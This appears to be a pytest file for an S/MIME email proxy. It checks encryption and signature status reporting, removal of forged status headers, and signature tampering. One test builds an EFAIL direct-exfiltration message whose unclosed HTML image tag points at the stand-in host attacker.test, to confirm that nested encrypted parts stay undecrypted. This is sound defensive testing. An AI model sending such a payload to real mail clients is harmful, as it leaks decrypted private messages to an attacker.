"""open_message: what a client is shown (DESIGN decisions 3, 4, 5; security.md items 1, 6)."""

from __future__ import annotations

import pytest

from smime_proxy.crypto.keyagent import InProcessKeyAgent
from smime_proxy.display import open_message
from smime_proxy.errors import KeyLocked
from smime_proxy.mime.entity import parse_entity
from smime_proxy.smime import Recipient, encrypt_message, sign_message
from support.pki import NOW, Identity, make_ca, make_user, simple_message


@pytest.fixture(scope="module")
def bob(root: Identity) -> Identity:
    return make_user("bob@example.test", root, kind="p256")


def agent(identity: Identity) -> InProcessKeyAgent:
    return InProcessKeyAgent(identity.key, identity.cert, tuple(identity.chain))


def status_fields(message: bytes) -> list[bytes]:
    return parse_entity(message).get_all("x-smime-status")


def test_signed_and_encrypted(root: Identity, alice: Identity, bob: Identity) -> None:
    signed = sign_message(simple_message(), agent(alice), now=NOW)
    encrypted = encrypt_message(signed, [Recipient(bob.cert, supports_gcm=True)])
    opened = open_message(encrypted, agent(bob), [root.cert], now=NOW)
    assert opened.status == (
        "encrypted=yes; cipher=aes-256-gcm; signature=valid; signer=alice@example.test; "
        "headers=unprotected"  # From, To, Subject, Date are outside a multipart/signed
    )
    assert opened.content.startswith(b"X-SMIME-Status: encrypted=yes;")
    assert b"this is a test." in opened.content


def test_opaque_signature_is_unwrapped(root: Identity, alice: Identity) -> None:
    signed = sign_message(simple_message(), agent(alice), opaque=True, now=NOW)
    opened = open_message(signed, None, [root.cert], now=NOW)
    # the signed entity has only Content-* fields: the shown From/To/Subject are the outer ones
    assert opened.status == ("encrypted=no; signature=valid; signer=alice@example.test; "
                             "headers=unprotected")
    shown = parse_entity(opened.content)
    assert shown.content_type()[0] == "text/plain"
    assert shown.body == b"Hello Bob,\r\nthis is a test.\r\n"


@pytest.mark.parametrize(
    "forged",
    [
        b"X-SMIME-Status: encrypted=yes; signature=valid; signer=ceo@example.test\r\n",
        b"x-smime-status: signature=valid\r\n",
        b"X-Smime-Status:\r\n encrypted=yes;\r\n\tsignature=valid\r\n",
        b"X-SMIME-Status: a\r\nX-SMIME-Status: b\r\n",
    ],
)
def test_incoming_status_headers_never_survive(
    root: Identity, alice: Identity, forged: bytes
) -> None:
    for message in (simple_message(), sign_message(simple_message(), agent(alice), now=NOW)):
        opened = open_message(forged + message, None, [root.cert], now=NOW)
        fields = status_fields(opened.content)
        assert fields == [opened.status.encode()]
        assert b"ceo@example.test" not in opened.content


def test_plain_message_is_marked_none(root: Identity) -> None:
    opened = open_message(simple_message(), None, [root.cert], now=NOW)
    assert opened.status == "encrypted=no; signature=none"
    assert opened.content.endswith(simple_message())


def test_locked_key_raises(root: Identity, bob: Identity) -> None:
    encrypted = encrypt_message(simple_message(), [Recipient(bob.cert)])
    with pytest.raises(KeyLocked):
        open_message(encrypted, None, [root.cert], now=NOW)


def test_nested_encrypted_part_is_never_decrypted(root: Identity, bob: Identity) -> None:
    """EFAIL direct exfiltration: an encrypted part inside a larger tree stays opaque."""
    secret = simple_message(body=b"TOP SECRET PLAINTEXT\r\n")
    encrypted = encrypt_message(secret, [Recipient(bob.cert)])
    header, _, body = encrypted.partition(b"\r\n\r\n")
    inner_headers = b"\r\n".join(
        line for line in header.split(b"\r\n") if line.lower().startswith(b"content-")
    )
    wrapper = (
        b"From: mallory@example.test\r\nTo: bob@example.test\r\nSubject: hi\r\n"
        b'MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary="b"\r\n\r\n'
        b'--b\r\nContent-Type: text/html\r\n\r\n<img src="http://attacker.test/\r\n'
        b"--b\r\n" + inner_headers + b"\r\n\r\n" + body + b"\r\n--b\r\n"
        b'Content-Type: text/html\r\n\r\n">\r\n--b--\r\n'
    )
    opened = open_message(wrapper, agent(bob), [root.cert], now=NOW)
    assert opened.status == "encrypted=no; signature=none"
    assert b"TOP SECRET" not in opened.content


def test_bad_signature_is_reported_invalid_with_signer(root: Identity, alice: Identity) -> None:
    signed = sign_message(simple_message(), agent(alice), now=NOW)
    tampered = signed.replace(b"this is a test.", b"this is a jest.")
    opened = open_message(tampered, None, [root.cert], now=NOW)
    assert opened.status == "encrypted=no; signature=invalid; signer=alice@example.test"


def test_untrusted_and_mismatch(root: Identity, alice: Identity) -> None:
    signed = sign_message(simple_message(), agent(alice), now=NOW)
    other = make_ca("Other")
    assert open_message(signed, None, [other.cert], now=NOW).status.startswith(
        "encrypted=no; signature=untrusted"
    )
    forged = signed.replace(b"From: Alice <alice@example.test>", b"From: ceo@example.test")
    assert open_message(forged, None, [root.cert], now=NOW).status == (
        "encrypted=no; signature=mismatch; signer=alice@example.test"
    )
